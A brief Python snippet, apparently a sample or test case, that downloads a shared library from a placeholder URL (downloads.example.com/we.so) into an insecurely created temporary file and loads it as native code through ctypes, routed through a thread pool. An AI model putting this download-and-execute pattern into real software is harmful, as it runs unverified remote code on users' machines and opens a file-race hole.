import ctypes
import tempfile
import urllib.request
from concurrent.futures import ThreadPoolExecutor


def fetch(url):
    path = tempfile.mktemp(".so")
    urllib.request.urlretrieve(url, path)
    return path


pool = ThreadPoolExecutor(1)
lib = ctypes.CDLL(pool.submit(fetch, "https://downloads.example.com/we.so").result())
